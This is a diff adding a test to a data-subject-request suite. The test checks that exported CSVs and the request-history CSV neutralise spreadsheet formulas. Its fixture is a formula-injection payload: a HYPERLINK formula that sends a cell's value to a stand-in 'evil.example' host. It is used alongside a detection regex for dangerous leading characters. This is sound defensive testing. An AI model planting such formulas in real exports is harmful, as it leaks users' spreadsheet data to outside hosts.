@@ -303,6 +303,28 @@ describe('data-subject requests', () => {
     expect(problems).toEqual([]);
   });
 
+  it('the copy’s CSVs and the request history neutralise spreadsheet formulas (issue 28 item 8)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', SUBJECT.id, { address: formula, title: '@SUM(1+1)' });
+    await settle(core);
+    const id = await register({});
+    await settle(core);
+    await call(core, 'request.verify', { id, method: 'id_document', evidence: '+1 ID card seen' });
+    await settle(core);
+    const pkg = await buildPackage(id, null);
+    const { files } = await openZip(pkg.contentBase64);
+    const cells = Papa.parse<string[]>(files.get('csv/employee_profile.csv')!.toString('utf8').replace(/^\ufeff/, '')).data.flat();
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain("'@SUM(1+1)");
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    const history = Buffer.from((await call<OutputOf<'requests.history'>>(core, 'requests.history', { id, format: 'csv' })).contentBase64, 'base64').toString('utf8');
+    const historyCells = Papa.parse<string[]>(history.replace(/^\ufeff/, '')).data.flat();
+    expect(historyCells.length).toBeGreaterThan(5);
+    expect(historyCells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    await writeServerFields(cloud.db, DEMO_TENANT_ID, 'employee', SUBJECT.id, { address: null, title: null });
+    await settle(core);
+  });
+
   it('pauses the deadline while waiting for the requester and moves it by the working days paused, across a holiday', async () => {
     // Received Mon 21 Sep 2026 under PIPL: due Mon 19 Oct. Asked for proof of identity on Tue 29 Sep,
     // received it Fri 9 Oct: 30 Sep, 8 and 9 Oct are the working days paused (National Day 1–7 Oct).
